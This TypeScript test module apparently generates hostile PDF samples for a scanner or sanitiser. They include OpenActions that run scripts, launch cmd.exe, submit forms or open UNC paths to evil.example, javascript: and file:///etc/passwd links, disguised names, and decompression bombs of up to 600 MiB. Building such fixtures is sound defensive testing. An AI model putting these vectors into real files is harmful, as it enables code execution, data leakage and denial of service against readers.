import { deflateSync } from 'node:zlib';
import { type PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { type HostileFile, newPdf } from './good-files.js';

const js = { Type: 'Action', S: 'JavaScript', JS: '(app.alert(1))' };

/** What a catalog, a page or an annotation may carry that acts; a plain word stands for a name, text in brackets for itself. */
const threats: Record<string, Record<string, unknown>> = {
  'a script when opened': { OpenAction: js },
  'a program when opened': { OpenAction: { S: 'Launch', F: '(cmd.exe)' } },
  'a page of the web when opened': { OpenAction: { S: 'URI', URI: '(https://evil.example)' } },
  'a form sent when opened': { OpenAction: { S: 'SubmitForm', F: '(https://evil.example)' } },
  'another file when opened': { OpenAction: { S: 'GoToR', F: '(\\\\evil.example\\x.pdf)' } },
  'an inner file when opened': { OpenAction: { S: 'GoToE', T: { R: 'C' } } },
  'data when opened': { OpenAction: { S: 'ImportData', F: '(x.fdf)' } },
  'scripts by name': { Names: { JavaScript: { Names: ['(a)', js] } } },
  'files by name': { Names: { EmbeddedFiles: { Names: ['(a)', { Type: 'Filespec', EF: { F: 'X' } }] } } },
  'further actions': { AA: { WC: js } },
  'an XFA form': { AcroForm: { XFA: '(<xdp/>)', Fields: [] } },
  'a scripted field': { AcroForm: { Fields: [{ FT: 'Tx', T: '(a)', AA: { K: js } }] } },
  'a portfolio': { Collection: { View: 'D' } },
  'a film': { Annots: [{ Type: 'Annot', Subtype: 'Movie' }] },
  'a screen': { Annots: [{ Type: 'Annot', Subtype: 'Screen', A: { S: 'Rendition' } }] },
  'a sound': { Annots: [{ Type: 'Annot', Subtype: 'Sound' }] },
  'rich media': { Annots: [{ Type: 'Annot', Subtype: 'RichMedia', RichMediaContent: {} }] },
  'a three-dimensional model': { Annots: [{ Type: 'Annot', Subtype: '3D', '3DD': 'X' }] },
  'an attached file': { Annots: [{ Type: 'Annot', Subtype: 'FileAttachment' }] },
  'a scripted link': { Annots: [{ Type: 'Annot', Subtype: 'Link', A: { S: 'URI', URI: '(javascript:alert(1))' } }] },
  'a link to a file': { Annots: [{ Type: 'Annot', Subtype: 'Link', A: { S: 'URI', URI: '(file:///etc/passwd)' } }] },
  'an action after an action': { Annots: [{ Subtype: 'Link', A: { S: 'GoTo', D: '(a)', Next: [js] } }] },
  'a script nobody refers to': { Unknown: [[[[js]]]] },
  'an article in another file': { Annots: [{ Subtype: 'Link', A: { S: 'Thread', F: '(\\\\evil.example\\x.pdf)' } }] },
  'a command of the reader': { Annots: [{ Subtype: 'Link', A: { S: 'Named', N: 'Print' } }] },
  'a command of the reader when opened': { OpenAction: { S: 'Named', N: 'SaveAs' } },
  'an action that nobody knows': { Annots: [{ Subtype: 'Link', A: { S: 'Whatever', F: '(x)' } }] },
  'an action without a kind that can be read': { Annots: [{ Subtype: 'Link', A: { S: '(Launch)', F: '(x)' } }] },
  'an action of a presentation': { Unknown: { Type: 'NavNode', NA: { S: 'Whatever' } } },
  'one bad action among good ones': {
    Annots: [{ Subtype: 'Link', A: { S: 'GoTo', D: '(a)', Next: [{ S: 'Hide' }, { S: 'Trans2' }] } }],
  },
  'a page of another file drawn into it': { Unknown: { Subtype: 'Form', Ref: { F: '(\\\\evil.example\\x.pdf)', Page: '(1)' } } },
};

const claimed = { name: 'scan.pdf', declaredType: 'application/pdf' };

export async function hostilePdfs(): Promise<HostileFile[]> {
  const found: HostileFile[] = [];
  const add = async (what: string, change: (document: PDFDocument) => unknown, useObjectStreams = true) => {
    const document = await newPdf();
    await change(document);
    found.push({ ...claimed, what, content: Buffer.from(await document.save({ useObjectStreams })) });
  };
  for (const [what, entries] of Object.entries(threats)) {
    const into = (document: PDFDocument) => put(document, entries);
    await add(`${what}, plain`, into, false);
    await add(`${what}, compressed`, into);
    await add(`${what}, in an object of its own`, (document) =>
      document.context.register(document.context.obj(given(document, entries))),
    );
  }
  await add('encrypted with a password', (document) => document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' }));
  for (const [what, Filter, streams] of bombs())
    await add(what, ({ context }) => streams.map((bytes) => context.register(context.stream(bytes, { Filter }))), false);
  await add('a picture of 3,600 megapixels', (document) =>
    document.context.register(document.context.stream('', { Subtype: 'Image', Width: 60_000, Height: 60_000 })),
  );
  await add('a stream from another file', (document) => document.context.register(document.context.stream('', { F: 'x' })));
  found.push(...(await writtenByHand()));
  return found;
}

/** What grows beyond measure when it is unpacked, alone or together, by whatever chain of filters. */
function bombs(): [string, string | string[], Uint8Array[]][] {
  const zeros = deflateSync(Buffer.alloc(200 * 1024 * 1024));
  const asHex = Buffer.from(`${zeros.toString('hex')}>`);
  // Two bytes say: 128 times the same one.
  const runs = Buffer.alloc(2_500_000, Buffer.from([0x81, 0x00]));
  const allowedAlone = deflateSync(Buffer.alloc(120 * 1024 * 1024));
  return [
    ['200 MiB in one stream', 'FlateDecode', [zeros]],
    ['200 MiB in one stream, by a short name', 'Fl', [zeros]],
    ['200 MiB in one stream that is cut off', 'FlateDecode', [zeros.subarray(0, zeros.length - 20)]],
    ['200 MiB behind hexadecimal text', ['ASCIIHexDecode', 'FlateDecode'], [asHex]],
    ['200 MiB behind hexadecimal text, by short names', ['AHx', 'Fl'], [asHex]],
    ['160 MiB in runs of the same byte', 'RunLengthDecode', [runs]],
    ['a stream packed twice', ['FlateDecode', 'FlateDecode'], [deflateSync(zeros)]],
    ['a stream packed in two ways', ['RunLengthDecode', 'FlateDecode'], [zeros]],
    ['600 MiB in five streams', 'FlateDecode', Array.from({ length: 5 }, () => allowedAlone)],
  ];
}

/** What no library writes: names in disguise, older versions of an object, damaged structure. */
async function writtenByHand(): Promise<HostileFile[]> {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const pdf = (catalog: string, more = '', end = 'startxref\n9\n%%EOF\n') =>
    Buffer.from(
      `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\n` +
        `endobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>\nendobj\n${more}trailer\n<< /Root 1 0 R /Size 9 >>\n${end}`,
      'latin1',
    );
  const hidden = (action: string) =>
    `5 0 obj\n<< /S 6 0 R /F (x) >>\nendobj\n6 0 obj\n7 0 R\nendobj\n7 0 obj\n8 0 R\nendobj\n8 0 obj\n/${action}\nendobj\n`;
  const deep = '['.repeat(200_000) + ']'.repeat(200_000);
  return [
    ['names in disguise', pdf('/Open#41ction << /S /Java#53cript /#4a#53 (app.alert(1)) >>')],
    ['a script behind a reference', pdf('/OpenAction 5 0 R', `5 0 obj\n${script}\nendobj\n`)],
    ['a program behind references to references', pdf('/Unknown << /A 5 0 R >>', hidden('Launch'))],
    ['a script behind references to references', pdf('/Unknown << /A 5 0 R >>', hidden('JavaScript'))],
    ['a program that is opened behind references to references', pdf('/OpenAction 5 0 R', hidden('Launch'))],
    [
      'an address behind references to references',
      pdf('/Unknown << /URI 5 0 R >>', '5 0 obj\n6 0 R\nendobj\n6 0 obj\n(javascript:alert)\nendobj\n'),
    ],
    ['references in a circle', pdf('/OpenAction 5 0 R', '5 0 obj\n6 0 R\nendobj\n6 0 obj\n5 0 R\nendobj\n')],
    [
      'an encryption that is only claimed',
      pdf('').toString('latin1').replace('/Size 9', '/Size 9 /Encrypt << /Filter /Standard /V 1 >>'),
    ],
    ['arrays in arrays without end', pdf('/Unknown 5 0 R', `5 0 obj\n${deep}\nendobj\n`)],
    [
      'no page',
      Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF', 'latin1'),
    ],
    ['nothing but its ends', Buffer.from('%PDF-1.4\nstartxref\n0\n%%EOF', 'latin1')],
    ['no end', pdf('', '', '')],
    ['something after its end', Buffer.concat([pdf(''), Buffer.from('<script>alert(1)</script>')])],
    [
      'a newer version without an end behind it',
      Buffer.concat([pdf(''), Buffer.from('\n9 0 obj\n<< /Type /Catalog >>\nendobj\n')]),
    ],
    ['a version that does not exist', Buffer.from(pdf('').toString('latin1').replace('%PDF-1.4', '%PDF-9.9'), 'latin1')],
  ].map(([what, content]) => ({ ...claimed, what: what as string, content: Buffer.from(content as Buffer) }));
}

function put(document: PDFDocument, entries: Record<string, unknown>): void {
  const target = 'Annots' in entries ? document.getPage(1).node : document.catalog;
  for (const [key, value] of Object.entries(given(document, entries))) target.set(PDFName.of(key), value as never);
}

function given(document: PDFDocument, entries: Record<string, unknown>): Record<string, any> {
  return Object.fromEntries(Object.entries(entries).map(([key, value]) => [key, object(document, value)]));
}

function object({ context }: PDFDocument, value: unknown): any {
  if (Array.isArray(value)) return context.obj(value.map((one) => object({ context } as PDFDocument, one)));
  if (typeof value === 'object') return context.obj(given({ context } as PDFDocument, value as Record<string, unknown>));
  const text = String(value);
  return text.startsWith('(') ? PDFString.of(text.slice(1, -1)) : PDFName.of(text);
}
